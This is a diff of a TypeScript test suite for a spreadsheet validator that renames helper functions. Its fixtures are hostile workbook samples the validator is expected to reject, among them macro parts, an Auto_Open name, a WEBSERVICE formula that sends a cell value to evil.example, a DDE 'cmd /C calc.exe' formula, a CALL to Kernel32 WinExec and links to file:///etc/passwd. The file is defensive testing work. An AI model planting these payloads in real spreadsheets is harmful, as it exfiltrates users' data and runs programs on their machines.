@@ -11,11 +11,13 @@ import { type Hostile, testHostile } from '../testing/trials.ts'
 
 const good = rawWorkbook()
 const first = 'xl/worksheets/sheet1.xml'
-const part = (name: string, content: string | Buffer = '<x/>') => rawWorkbook({ [name]: content })
+const buildWithPart = (name: string, content: string | Buffer = '<x/>') => rawWorkbook({ [name]: content })
 const type = (content: string) => contentTypes(`<Override PartName="/xl/x.bin" ContentType="${content}"/>`)
-const formula = (text: string) => workbookWith(`${plainRows}<row r="3"><c r="A3"><f>${text}</f><v>1</v></c></row>`)
-const rels = (...targets: string[][]) => part('xl/worksheets/_rels/sheet1.xml.rels', relations(targets))
-const workbook = (inner: string) => {
+const buildWithFormula = (text: string) =>
+  workbookWith(`${plainRows}<row r="3"><c r="A3"><f>${text}</f><v>1</v></c></row>`)
+const buildSheetRelations = (...targets: string[][]) =>
+  buildWithPart('xl/worksheets/_rels/sheet1.xml.rels', relations(targets))
+const buildWithWorkbook = (inner: string) => {
   const own = String(workbookParts().find(({ name }) => name === 'xl/workbook.xml')!.bytes)
   return rawWorkbook({ 'xl/workbook.xml': own.replace('</sheets>', `</sheets>${inner}`) })
 }
@@ -52,7 +54,7 @@ const shapes: Hostile[] = [
     () => rawWorkbook({ '[Content_Types].xml': contentTypes().replace('.sheet.main', '.template.main') }),
     'notWorkbook',
   ],
-  ['hostile metadata', 'metadata', () => part('xl/vbaProject.bin'), 'workbookMacros'],
+  ['hostile metadata', 'metadata', () => buildWithPart('xl/vbaProject.bin'), 'workbookMacros'],
 ]
 
 const macros: Hostile[] = [
@@ -74,99 +76,104 @@ const macros: Hostile[] = [
     () => rawWorkbook({ '[Content_Types].xml': type('application/vnd.ms-excel.addin.macroEnabled.main+xml') }),
     'workbookMacros',
   ],
-  ['macros by name', 'excel', () => part('xl/vbaProject.bin'), 'workbookMacros'],
-  ['macros in other letters', 'excel', () => part('xl/VBAPROJECT.BIN'), 'workbookMacros'],
+  ['macros by name', 'excel', () => buildWithPart('xl/vbaProject.bin'), 'workbookMacros'],
+  ['macros in other letters', 'excel', () => buildWithPart('xl/VBAPROJECT.BIN'), 'workbookMacros'],
   [
     'macros by type',
     'excel',
     () => rawWorkbook({ '[Content_Types].xml': type('application/vnd.ms-office.vbaProject') }),
     'workbookMacros',
   ],
-  ['controls', 'excel', () => part('xl/activeX/activeX1.xml'), 'workbookMacros'],
-  ['a macro sheet', 'excel', () => part('xl/macrosheets/sheet1.xml'), 'workbookMacros'],
-  ['a ribbon of its own', 'excel', () => part('customUI/customUI.xml'), 'workbookMacros'],
+  ['controls', 'excel', () => buildWithPart('xl/activeX/activeX1.xml'), 'workbookMacros'],
+  ['a macro sheet', 'excel', () => buildWithPart('xl/macrosheets/sheet1.xml'), 'workbookMacros'],
+  ['a ribbon of its own', 'excel', () => buildWithPart('customUI/customUI.xml'), 'workbookMacros'],
   [
     'a name that runs at opening',
     'excel',
-    () => workbook('<definedNames><definedName name="_xlnm.Auto_Open">a!A1</definedName></definedNames>'),
+    () => buildWithWorkbook('<definedNames><definedName name="_xlnm.Auto_Open">a!A1</definedName></definedNames>'),
     'workbookMacros',
   ],
-  ['an embedded object', 'excel', () => part('xl/embeddings/oleObject1.bin'), 'workbookForeignPart'],
-  ['a program as a part', 'excel', () => part('xl/media/a.exe'), 'workbookForeignPart'],
-  ['a script as a part', 'excel', () => part('xl/a.js'), 'workbookForeignPart'],
-  ['a zip as a picture', 'excel', () => part('xl/media/image1.png', good), 'zipNested'],
+  ['an embedded object', 'excel', () => buildWithPart('xl/embeddings/oleObject1.bin'), 'workbookForeignPart'],
+  ['a program as a part', 'excel', () => buildWithPart('xl/media/a.exe'), 'workbookForeignPart'],
+  ['a script as a part', 'excel', () => buildWithPart('xl/a.js'), 'workbookForeignPart'],
+  ['a zip as a picture', 'excel', () => buildWithPart('xl/media/image1.png', good), 'zipNested'],
   [
     'a compound document as printer settings',
     'excel',
-    () => part('xl/printerSettings/printerSettings1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
+    () => buildWithPart('xl/printerSettings/printerSettings1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
     'zipNested',
   ],
 ]
 
 const outside: Hostile[] = [
-  ['a linked workbook', 'excel', () => part('xl/externalLinks/externalLink1.xml'), 'workbookOutsideLink'],
-  ['a connection', 'excel', () => part('xl/connections.xml'), 'workbookOutsideLink'],
-  ['a query', 'excel', () => part('xl/queryTables/queryTable1.xml'), 'workbookOutsideLink'],
+  ['a linked workbook', 'excel', () => buildWithPart('xl/externalLinks/externalLink1.xml'), 'workbookOutsideLink'],
+  ['a connection', 'excel', () => buildWithPart('xl/connections.xml'), 'workbookOutsideLink'],
+  ['a query', 'excel', () => buildWithPart('xl/queryTables/queryTable1.xml'), 'workbookOutsideLink'],
   [
     'a picture from outside',
     'excel',
-    () => rels(['image', 'https://evil.example/a.png', 'External']),
+    () => buildSheetRelations(['image', 'https://evil.example/a.png', 'External']),
     'workbookOutsideLink',
   ],
   [
     'a template from outside',
     'excel',
-    () => rels(['attachedTemplate', 'file://host/share/a.xltm', 'External']),
+    () => buildSheetRelations(['attachedTemplate', 'file://host/share/a.xltm', 'External']),
     'workbookOutsideLink',
   ],
   [
     'a share of another machine',
     'excel',
-    () => rels(['hyperlink', '\\\\host\\share\\a.exe', 'External']),
+    () => buildSheetRelations(['hyperlink', '\\\\host\\share\\a.exe', 'External']),
     'workbookOutsideLink',
   ],
   [
     'a link that runs a script',
     'excel',
-    () => rels(['hyperlink', 'javascript:alert(1)', 'External']),
+    () => buildSheetRelations(['hyperlink', 'javascript:alert(1)', 'External']),
     'workbookOutsideLink',
   ],
   [
     'a link to a local file',
     'excel',
-    () => rels(['hyperlink', 'file:///etc/passwd', 'External']),
+    () => buildSheetRelations(['hyperlink', 'file:///etc/passwd', 'External']),
     'workbookOutsideLink',
   ],
   [
     'an outside target that does not say so',
     'excel',
-    () => rels(['image', 'https://evil.example/a.png']),
+    () => buildSheetRelations(['image', 'https://evil.example/a.png']),
     'workbookOutsideLink',
   ],
   [
     'a formula that fetches',
     'excel',
-    () => formula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
+    () => buildWithFormula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
     'workbookOutsideLink',
   ],
   [
     'a formula that fetches, in pieces',
     'excel',
-    () => formula('WEB<!-- -->SERV<![CDATA[ICE]]>(A1)'),
+    () => buildWithFormula('WEB<!-- -->SERV<![CDATA[ICE]]>(A1)'),
     'workbookOutsideLink',
   ],
-  ['a formula that starts a program', 'excel', () => formula("cmd|'/C calc.exe'!A0"), 'workbookOutsideLink'],
+  ['a formula that starts a program', 'excel', () => buildWithFormula("cmd|'/C calc.exe'!A0"), 'workbookOutsideLink'],
   [
     'a formula that calls a library',
     'excel',
-    () => formula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
+    () => buildWithFormula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
     'workbookOutsideLink',
   ],
-  ['a formula into another workbook', 'excel', () => formula("'[secret.xlsx]Sheet1'!A1"), 'workbookOutsideLink'],
+  [
+    'a formula into another workbook',
+    'excel',
+    () => buildWithFormula("'[secret.xlsx]Sheet1'!A1"),
+    'workbookOutsideLink',
+  ],
   [
     'a name that fetches',
     'excel',
-    () => workbook('<definedNames><definedName name="n">_xlfn.WEBSERVICE("h")</definedName></definedNames>'),
+    () => buildWithWorkbook('<definedNames><definedName name="n">_xlfn.WEBSERVICE("h")</definedName></definedNames>'),
     'workbookOutsideLink',
   ],
 ]
